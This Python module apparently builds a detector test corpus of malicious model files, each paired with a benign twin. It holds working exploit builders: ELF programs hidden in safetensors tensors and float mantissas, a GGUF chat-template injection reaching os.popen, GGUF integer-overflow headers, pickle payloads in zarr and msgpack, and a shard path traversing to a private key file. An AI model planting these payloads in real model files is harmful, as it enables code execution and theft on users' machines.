"""Weights as data: safetensors, GGUF, zarr and msgpack whose bytes do more than be weights."""
import json
import os
import struct
import tempfile

from assembly import call, glob, pickle
from pair import SHELL
from twelfth.binaries import elf


def random(n, seed=0, scale=0.02):
    import numpy

    return numpy.random.default_rng(seed).normal(0, scale, n).astype("float32")


def safetensors(tensors, meta=None):
    """{name: (dtype, shape, bytes)}"""
    header, at = {}, 0
    if meta:
        header["__metadata__"] = meta
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [at, at + len(data)]}
        at += len(data)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + b"".join(d for _, _, d in tensors.values())


def hidden(payload, n=65536):
    """Weights whose three low bytes carry `payload`, one float after another, the sign and exponent kept."""
    raw = bytearray(random(n, 3).tobytes())
    for i in range(0, len(payload), 3):
        part = payload[i : i + 3]
        raw[i // 3 * 4 : i // 3 * 4 + len(part)] = part
    return bytes(raw)


def gguf_text(text):
    return struct.pack("<Q", len(text)) + text.encode()


def gguf(values, tensors, data):
    """GGUF version 3; `values` are encoded metadata pairs, `tensors` (name, dims, type, offset)."""
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(values)) + b"".join(values)
    for name, dims, kind, offset in tensors:
        out += gguf_text(name) + struct.pack("<I", len(dims)) + struct.pack(f"<{len(dims)}Q", *dims) + struct.pack("<IQ", kind, offset)
    return out + bytes(-len(out) % 32) + data


def gguf_string(key, value):
    return gguf_text(key) + struct.pack("<I", 8) + gguf_text(value)


ARCH = [gguf_string("general.architecture", "llama"), gguf_string("general.name", "assistant-1b")]


def templated(template):
    import gguf as library

    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "m.gguf")
        writer = library.GGUFWriter(path, "llama")
        writer.add_block_count(1)
        writer.add_context_length(128)
        writer.add_embedding_length(16)
        writer.add_token_list([b"<s>", b"</s>", b"a", b"b"])
        writer.add_chat_template([
            {"name": "default", "template": "{{ bos_token }}{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}"},
            {"name": "rag", "template": template},
        ])
        writer.add_tensor("token_embd.weight", random(64).reshape(4, 16))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return open(path, "rb").read()


def zarr(codec, chunk):
    """A consolidated zarr group of one object array and one of floats."""
    import numcodecs

    compressor = {"id": "zlib", "level": 1}
    labels = {"chunks": [4], "compressor": compressor, "dtype": "|O", "fill_value": None, "filters": [codec], "order": "C", "shape": [4], "zarr_format": 2}
    weights = dict(labels, dtype="<f4", filters=None, fill_value=0.0)
    meta = {"metadata": {".zgroup": {"zarr_format": 2}, "labels/.zarray": labels, "weights/.zarray": weights}, "zarr_consolidated_format": 1}
    pack = numcodecs.get_codec(compressor).encode
    return {
        ".zmetadata": json.dumps(meta, indent=1), ".zgroup": '{"zarr_format": 2}',
        "labels/.zarray": json.dumps(labels), "labels/0": bytes(pack(chunk)), "weights/.zarray": json.dumps(weights), "weights/0": bytes(pack(random(4).tobytes())),
    }


def states(opt):
    import msgpack

    kernel = {b"nd": True, b"type": b"<f4", b"kind": b"", b"shape": [4, 4], b"data": random(16).tobytes()}
    return msgpack.packb({"params": {"dense": {"kernel": kernel}}, "opt_state": {"count": 3, "schedule": opt}}, use_bin_type=True)


def sharded(path):
    shard = safetensors({"embed.weight": ("F32", [4, 4], random(16).tobytes())})
    index = {"metadata": {"total_size": 128}, "weight_map": {"embed.weight": "model-00001-of-00002.safetensors", "head.weight": path}}
    return {
        "model.safetensors.index.json": json.dumps(index, indent=1), "model-00001-of-00002.safetensors": shard,
        "model-00002-of-00002.safetensors": safetensors({"head.weight": ("F32", [4, 4], random(16, 5).tobytes())}),
        "config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4}),
    }


def add(out):
    import numcodecs
    import numpy

    base = {"layers.0.weight": ("F32", [32, 32], random(1024).tobytes())}
    noise = numpy.random.default_rng(9).integers(0, 256, len(elf()) + 1024, dtype="uint8").tobytes()
    out.add(
        "weights", "executable-tensor",
        safetensors({**base, "layers.0.qzeros": ("U8", [len(noise)], noise[:512] + elf() + noise[512 + len(elf()) :])}),
        safetensors({**base, "layers.0.qzeros": ("U8", [len(noise)], noise)}), file="model.safetensors",
        why="a whole ELF program lies within a tensor of quantisation zeros; no weights look like that. The twin's tensor is random",
    )
    out.add(
        "weights", "mantissa-program", safetensors({"lm_head.weight": ("F32", [256, 256], hidden(elf(b"touch marker; " * 120)))}),
        safetensors({"lm_head.weight": ("F32", [256, 256], hidden(b""))}), file="model.safetensors",
        why="an ELF program is spread over the low three bytes of each float (EvilModel), sign and exponent kept, for a loader elsewhere to gather",
    )
    out.add(
        "weights", "named-template",
        templated("{{ ([namespace]|map(attribute='__init__')|first)['__globals__']['os']['popen']('touch marker').read() }}"),
        templated("{{ ([messages[0]]|map(attribute='role')|first)['upper']() }}: {{ documents }}"), file="model.gguf",
        why="CVE-2024-34359: the second, named chat template of a GGUF reaches os.popen when a caller without a sandbox renders it",
    )
    big = 1 << 62
    sums = [(f"blk.{i}.ffn.weight", (big,), 24, i * big % (1 << 64)) for i in range(4)] + [("output.weight", (32,), 24, 0)]
    small = [(f"blk.{i}.ffn.weight", (32,), 24, i * 32) for i in range(5)]
    out.add(
        "weights", "gguf-size-wrap", gguf(ARCH, sums, bytes(160)), gguf(ARCH, small, bytes(160)), file="model.gguf",
        why="CVE-2025-53630: four tensors of 2^62 bytes add up to 2^64, so the sum of sizes wraps to 32 bytes and the loader writes past its buffer; by the specification, llama.cpp is not installed",
    )
    scores = struct.pack("<4f", 0, -1, -2, -3)
    array = lambda count, kind, body: gguf_text("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, kind, count) + body
    out.add(
        "weights", "gguf-array-wrap",
        gguf([*ARCH, array((1 << 62) + 4, 6, scores)], small, bytes(160)), gguf([*ARCH, array(4, 6, scores)], small, bytes(160)), file="vocab.gguf",
        why="CVE-2026-27940's shape: an array of 2^62 + 4 floats has a byte size that wraps to 16, so a reader that multiplies allocates 16 bytes and reads on; by the specification, no reader is run",
    )
    objects = numpy.array(["a", "b", "c", "d"], dtype=object)
    out.add(
        "weights", "zarr-pickle-filter", zarr({"id": "pickle", "protocol": 5}, pickle([call(glob("os", "popen"), SHELL), [4]])),
        zarr({"id": "json2", "encoding": "utf-8", "allow_nan": True, "check_circular": True, "ensure_ascii": True, "indent": None, "separators": [",", ":"],
              "skipkeys": False, "sort_keys": True, "strict": True}, numcodecs.get_codec({"id": "json2"}).encode(objects)),
        prove="twelfth-zarr",
        why="the filter of an object array is numcodecs' pickle codec, so reading its chunk unpickles a command; the twin's filter is JSON",
    )
    kinds = lambda kind, data: {b"nd": True, b"type": b"|O", b"kind": kind, b"shape": [1], b"data": data}
    out.add(
        "weights", "msgpack-object-array", states(kinds(b"O", pickle(call(glob("posix", "system"), SHELL)))),
        states({b"nd": True, b"type": b"|u1", b"kind": b"", b"shape": [24], b"data": bytes(range(24))}), prove="twelfth-msgpack", file="checkpoint.msgpack",
        why="msgpack-numpy unpickles the data of an array whose kind is O; this one runs a command",
    )
    out.add(
        "weights", "index-escape", sharded("../../../../../../etc/ssl/private/key.bin"), sharded("model-00002-of-00002.safetensors"),
        why="the index sends a shard outside of the model's folder, to a file of the machine (.bin, so it is unpickled); not run, transformers is not installed",
    )
